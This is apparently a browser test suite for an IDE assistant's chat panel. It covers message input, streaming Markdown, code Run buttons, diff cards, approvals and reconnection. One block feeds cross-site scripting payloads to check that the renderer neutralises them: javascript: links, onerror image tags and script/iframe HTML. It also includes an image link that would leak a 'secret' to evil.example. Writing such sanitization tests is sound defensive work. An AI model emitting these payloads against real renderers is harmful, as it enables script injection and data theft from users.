import { describe, expect, test, vi } from 'vitest';
import { page, userEvent } from 'vitest/browser';
import { createFakeClient } from './support/fake-client.ts';
import { approval, diffEntry } from './support/samples.ts';
import { cleanUp, clientWithFiles, focused, mount } from './support/mount.ts';

cleanUp();

const message = () => page.getByRole('textbox', { name: 'Message' });
const { state: _, ...diff } = diffEntry();

async function ask(text: string) {
  await message().fill(text);
  await userEvent.keyboard('{Enter}');
}

describe('the composer', () => {
  test('sends by Enter, makes a line by Shift+Enter, and is empty afterwards', async () => {
    const { client } = await mount({ mode: 'expanded' });
    await message().fill('one');
    await userEvent.keyboard('{Shift>}{Enter}{/Shift}two');
    await expect.element(message()).toHaveValue('one\ntwo');
    await userEvent.keyboard('{Enter}');
    expect(client.last('chat').input['message']).toBe('one\ntwo');
    await expect.element(message()).toHaveValue('');
    await expect.element(page.getByText('one two')).toBeVisible();
  });

  test.each([
    ['while composing', { isComposing: true, keyCode: 13 }],
    ['with the code of an input method', { isComposing: false, keyCode: 229 }],
  ])('leaves an Enter %s to the input method', async (_name, fields) => {
    const { client } = await mount({ mode: 'expanded' });
    await message().fill('日本');
    const event = new KeyboardEvent('keydown', {
      key: 'Enter',
      bubbles: true,
      composed: true,
      cancelable: true,
    });
    for (const [name, value] of Object.entries(fields))
      Object.defineProperty(event, name, { value });
    message().element().dispatchEvent(event);
    expect(event.defaultPrevented).toBe(false);
    expect(client.sent.some((request) => request.type === 'chat')).toBe(false);
    await expect.element(message()).toHaveValue('日本');
  });

  test('grows with its text up to eight lines', async () => {
    await mount({ mode: 'expanded' });
    await message().fill('one');
    const height = () => message().element().getBoundingClientRect().height;
    const one = height();
    await message().fill('a\nb\nc');
    expect(height()).toBeGreaterThan(one + 30);
    await message().fill('a\n'.repeat(40));
    expect(height()).toBeLessThanOrEqual(156);
  });

  test('completes a command by keyboard', async () => {
    const client = clientWithFiles({ 'app.py': 'x = 1\n' });
    await mount({ mode: 'expanded' }, client);
    await message().click();
    await userEvent.keyboard('/');
    await expect.element(page.getByRole('listbox', { name: 'Commands' })).toBeVisible();
    await userEvent.keyboard('{ArrowDown}{Enter}');
    await expect.element(page.getByRole('combobox', { name: 'Message' })).not.toBeInTheDocument();
    await expect.element(message()).toHaveValue('/fix ');
    expect(client.sent.some((request) => request.type === 'chat')).toBe(false);
  });

  test('stops an answer under way', async () => {
    const { client } = await mount({ mode: 'expanded' });
    await ask('think');
    const request = client.last('chat');
    client.deliver('ai_typing', { is_typing: true }, request.requestId);
    client.deliver('ai_delta', { message_id: 'm', delta: 'Well' }, request.requestId);
    await page.getByRole('button', { name: 'Stop' }).click();
    const { AssistantError } = await import('@ide-assistant/sdk');
    request.fail(new AssistantError('cancelled', 'cancelled'));
    await expect.element(page.getByText('Stopped')).toBeVisible();
  });
});

describe('an answer', () => {
  test('streams as Markdown and keeps its place when the reply comes', async () => {
    const { client } = await mount({ mode: 'expanded' });
    await ask('hello');
    const { requestId, reply } = client.last('chat');
    client.deliver('ai_delta', { message_id: 'm', delta: 'Some **bo' }, requestId);
    client.deliver('ai_delta', { message_id: 'm', delta: 'ld** words' }, requestId);
    await expect.element(page.getByText('bold')).toBeVisible();
    const bold = page.getByText('bold', { exact: true }).element();
    expect(bold.tagName).toBe('STRONG');
    reply({
      message: {
        id: 'm',
        role: 'assistant',
        content: 'Some **bold** words.',
        timestamp: '2026-01-01T00:00:00.000Z',
      },
      diffs: [],
    });
    await expect.element(page.getByText(/words\./)).toBeVisible();
    expect(bold.isConnected).toBe(true);
  });

  test('shows its code with Copy, Insert and, where it can run, Run', async () => {
    const { client } = await mount({ mode: 'expanded' });
    await ask('code');
    const { requestId } = client.last('chat');
    client.deliver('ai_delta', { message_id: 'm', delta: '```py\nprint(1)\n```\n' }, requestId);
    await page.getByRole('button', { name: 'Run' }).click();
    expect(client.last('code_execute').input).toEqual({ language: 'python', code: 'print(1)' });
    await expect.element(page.getByRole('button', { name: 'Copy' })).toBeVisible();
    await expect.element(page.getByRole('button', { name: 'Insert' })).toBeVisible();
    client.deliver('ai_delta', { message_id: 'm2', delta: '```cobol\nSTOP RUN.\n```\n' }, 'other');
    await expect.element(page.getByText('STOP RUN.')).toBeVisible();
    expect(page.getByRole('button', { name: 'Run' }).elements()).toHaveLength(1);
  });

  test('tells what its tools did in a line each', async () => {
    const { client } = await mount({ mode: 'expanded' });
    await ask('look');
    const { requestId } = client.last('chat');
    const tool = { message_id: 'm', tool: 'security_scan', arguments: { file_path: 'app.py' } };
    client.deliver('ai_tool', { ...tool, status: 'start' }, requestId);
    await expect.element(page.getByText('running')).toBeVisible();
    client.deliver('ai_tool', { ...tool, status: 'blocked', result: 'not here' }, requestId);
    await expect.element(page.getByText('security_scan · not here')).toBeVisible();
    await expect.element(page.getByText('blocked')).toBeVisible();
  });

  test('that failed says so and asks again', async () => {
    const { client } = await mount({ mode: 'expanded' });
    await ask('why');
    const { AssistantError } = await import('@ide-assistant/sdk');
    client.last('chat').fail(new AssistantError('timeout', 'timed out'));
    await expect.element(page.getByText('It took too long. Try again.')).toBeVisible();
    await page.getByRole('button', { name: 'Ask again' }).click();
    expect(client.sent.filter((request) => request.type === 'chat')).toHaveLength(2);
    expect(client.last('chat').input['message']).toBe('why');
  });
});

describe('text of an answer that means harm', () => {
  async function show(markdown: string) {
    const { client, element } = await mount({ mode: 'expanded' });
    await ask('x');
    const { requestId, reply } = client.last('chat');
    // In pieces of three characters, so that every construct is cut somewhere.
    for (let at = 0; at < markdown.length; at += 3) {
      client.deliver('ai_delta', { message_id: 'm', delta: markdown.slice(at, at + 3) }, requestId);
    }
    reply({
      message: {
        id: 'm',
        role: 'assistant',
        content: markdown,
        timestamp: '2026-01-01T00:00:00.000Z',
      },
      diffs: [],
    });
    await expect.element(page.getByText('end of text')).toBeVisible();
    const chat = element
      .shadowRoot!.querySelector('ida-shell')!
      .shadowRoot!.querySelector('ida-chat')!;
    const messages = [...chat.shadowRoot!.querySelectorAll('ida-message')];
    return messages.at(-1)!.shadowRoot!.querySelector('.markdown')!;
  }

  test.each([
    ['a script link', '[a](javascript:alert(1))'],
    ['a script link in other letters', '[a](JaVaScRiPt:alert(1))'],
    ['a data link', '[a](data:text/html,<script>alert(1)</script>)'],
    ['an image', '![pixel](https://evil.example/?q=secret)'],
    ['a script image', '![x](javascript:alert(1))'],
    [
      'raw HTML',
      '<img src=x onerror=alert(1)><script>alert(1)</script><iframe src=//evil.example>',
    ],
    ['a style', '<style>*{display:none}</style>'],
    ['HTML in a link text', '[<img src=x onerror=alert(1)>](https://example.org/)'],
    ['a handler in a link', '[a](https://example.org/" onmouseover="alert(1))'],
    ['HTML in a fence language', '```py"><img src=x onerror=alert(1)>\nx\n```'],
    ['a table with HTML', '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | y |'],
  ])('is harmless: %s', async (_name, markdown) => {
    const requests = performance.getEntriesByType('resource').length;
    const root = await show(`${markdown}\n\nend of text`);
    expect(root.querySelectorAll('img, script, iframe, style, object, embed, svg')).toHaveLength(0);
    for (const element of root.querySelectorAll('*')) {
      for (const { name, value } of element.attributes) {
        expect(name).not.toMatch(/^on/i);
        if (name === 'href') expect(value).toMatch(/^(https?:|mailto:|#)/);
        else expect(value).not.toMatch(/javascript:/i);
      }
    }
    const foreign = performance
      .getEntriesByType('resource')
      .slice(requests)
      .filter((entry) => entry.name.includes('evil.example'));
    expect(foreign).toEqual([]);
  });

  test('keeps links to the web, which tell the other side nothing', async () => {
    const root = await show('[manual](https://docs.example.org/a)\n\nend of text');
    const link = root.querySelector('a')!;
    expect(link.href).toBe('https://docs.example.org/a');
    expect(link.rel).toBe('noopener noreferrer nofollow');
    expect(link.target).toBe('_blank');
  });
});

describe('the conversation', () => {
  test('follows its end, lets a reader be, and offers the way back', async () => {
    const { client, element } = await mount({ mode: 'expanded' });
    await ask('long');
    const { requestId } = client.last('chat');
    const line = 'A line of the answer.\n\n';
    client.deliver('ai_delta', { message_id: 'm', delta: line.repeat(60) }, requestId);
    const scroller = element
      .shadowRoot!.querySelector('ida-shell')!
      .shadowRoot!.querySelector('ida-chat')!
      .shadowRoot!.querySelector('.scroller')!;
    const distance = () => scroller.scrollHeight - scroller.scrollTop - scroller.clientHeight;
    await vi.waitFor(() => {
      expect(scroller.scrollHeight).toBeGreaterThan(1_000);
      expect(distance()).toBeLessThan(8);
    });
    scroller.scrollTop = 100;
    await expect.element(page.getByRole('button', { name: 'Jump to latest' })).toBeVisible();
    client.deliver('ai_delta', { message_id: 'm', delta: `${line.repeat(10)}newest\n` }, requestId);
    await expect.element(page.getByText('newest')).toBeInTheDocument();
    expect(scroller.scrollTop).toBe(100);
    await page.getByRole('button', { name: 'Jump to latest' }).click();
    await vi.waitFor(() => expect(distance()).toBeLessThan(8));
  });

  test('offers three things to try while it is empty', async () => {
    const { client } = await mount({ mode: 'expanded' }, createFakeClient(null));
    await expect.element(page.getByText('What would you like to do?')).toBeVisible();
    await page.getByRole('button', { name: 'Show all commands' }).click();
    expect(client.last('chat').input['message']).toBe('/help');
  });

  test('says when no model is connected', async () => {
    await mount({ mode: 'expanded' }, createFakeClient(null));
    await expect.element(page.getByText(/No model is connected/)).toBeVisible();
  });
});

describe('a proposal', () => {
  test('stands as a card with its decision, which goes to the server', async () => {
    const { client } = await mount({ mode: 'expanded' });
    client.deliver('diff', diff);
    const card = page.getByRole('region', { name: 'Proposed change of app.py' });
    await expect.element(card).toMatchTextContent(/app\.py\s+\+2\s+−1/);
    await page.getByRole('button', { name: 'Apply' }).click();
    expect(client.last('diff_apply').input).toEqual({ diff_id: 'd_1' });
    client
      .last('diff_apply')
      .reply({ diff_id: 'd_1', path: 'app.py', hash: diff.base_hash, hunks: ['h_1'] });
    await expect.element(page.getByRole('button', { name: 'Apply' })).not.toBeInTheDocument();
  });

  test('can be rejected', async () => {
    const { client } = await mount({ mode: 'expanded' });
    client.deliver('diff', diff);
    await page.getByRole('button', { name: 'Reject' }).click();
    expect(client.last('diff_reject').input).toEqual({ diff_id: 'd_1' });
  });

  test('that can no longer be applied says so', async () => {
    const { client } = await mount({ mode: 'expanded' });
    await ask('fix');
    const { requestId } = client.last('chat');
    client.deliver('ai_delta', { message_id: 'm', delta: 'Here.' }, requestId);
    client.deliver('diff', diff, requestId);
    await page.getByRole('button', { name: 'Apply' }).click();
    const { AssistantError } = await import('@ide-assistant/sdk');
    client.last('diff_apply').fail(new AssistantError('conflict', 'changed'));
    await expect.element(page.getByText('Outdated. Ask again')).toBeVisible();
    await expect
      .element(page.getByText(/could not be applied\. It changed elsewhere/))
      .toBeVisible();
  });
});

describe('an approval', () => {
  test('is decided by whoever may', async () => {
    const { client } = await mount({ mode: 'expanded' });
    client.deliver('approval_required', approval());
    await expect.element(page.getByText('file delete secrets.env')).toBeVisible();
    await page.getByRole('button', { name: 'Approve' }).click();
    expect(client.last('approval_resolve').input).toMatchObject({
      approval_id: 'a_1',
      decision: 'approve',
    });
  });

  test('is let pass for the session only where that is offered, and says what passes', async () => {
    const { client } = await mount({ mode: 'expanded' });
    const forSession = page.getByRole('button', { name: 'Allow for this session' });
    client.deliver('approval_required', approval());
    await expect.element(page.getByRole('button', { name: 'Approve' })).toBeVisible();
    await expect.element(forSession).not.toBeInTheDocument();
    const grantable = { four_eyes: false, grantable: true, grant_covers: 'npm test … in app' };
    client.deliver('approval_required', approval(grantable));
    await expect
      .element(forSession)
      .toHaveAttribute('title', expect.stringContaining('npm test … in app'));
    await forSession.click();
    expect(client.last('approval_resolve').input).toMatchObject({
      ...{ approval_id: 'a_1', decision: 'approve', scope: 'session' },
    });
  });

  test('under four eyes is not for the one who asked', async () => {
    const { client } = await mount({ mode: 'expanded' });
    client.deliver('approval_required', approval({ requested_by: 'ada' }));
    await expect.element(page.getByText('Asked by ada. Waits for somebody else.')).toBeVisible();
    await expect.element(page.getByRole('button', { name: 'Approve' })).not.toBeInTheDocument();
  });
});

describe('without a connection', () => {
  test('the dot is red, the word counts down, and Retry tries at once', async () => {
    const { client, element } = await mount({ mode: 'expanded' });
    await expect.element(message()).toBeVisible();
    client.setStatus(
      { state: 'reconnecting', attempt: 1, retryAt: Date.now() + 9_500, code: 1006, reason: '' },
      2,
    );
    await expect.element(page.getByText(/^Reconnecting in \d+ s$/)).toBeVisible();
    const dot = element.shadowRoot!.querySelector('ida-shell')!.shadowRoot!.querySelector('.dot')!;
    expect(dot.className).toContain('bad');
    await expect.element(page.getByText('Offline. 2 queued, sends by itself.')).toBeVisible();
    await page.getByRole('button', { name: 'Retry' }).click();
    expect(client.reconnects).toBe(1);
  });

  test('what is sent waits, marked as queued', async () => {
    const { client } = await mount({ mode: 'expanded' });
    await expect.element(message()).toBeVisible();
    client.setStatus({ state: 'offline' });
    await ask('later');
    await expect.element(page.getByText('Queued')).toBeVisible();
    await expect.element(message()).toHaveValue('');
    expect(focused()).toBe(message().element());
  });

  test('the first connection is yellow and pulses', async () => {
    const client = createFakeClient();
    client.setStatus({ state: 'connecting', attempt: 0 });
    const { element } = await mount({ mode: 'expanded' }, client);
    await expect.element(page.getByText('Connecting', { exact: true }).first()).toBeVisible();
    const dot = element.shadowRoot!.querySelector('ida-shell')!.shadowRoot!.querySelector('.dot')!;
    expect(dot.className).toMatch(/warn pulse/);
  });

  test('an end says why and offers to reconnect', async () => {
    const { client, element } = await mount({ mode: 'expanded' });
    const states: string[] = [];
    element.addEventListener('ida-status-change', (event) => states.push(event.status.state));
    await expect.element(message()).toBeVisible();
    client.setStatus({ state: 'closed', code: 4401, reason: 'expired' });
    await expect.element(page.getByText('Signed out', { exact: true }).first()).toBeVisible();
    await expect.element(page.getByText('Sign in again, then reconnect.')).toBeVisible();
    await page.getByRole('button', { name: 'Reconnect' }).click();
    expect(client.reconnects).toBe(1);
    expect(states.at(-1)).toBe('closed');
  });
});
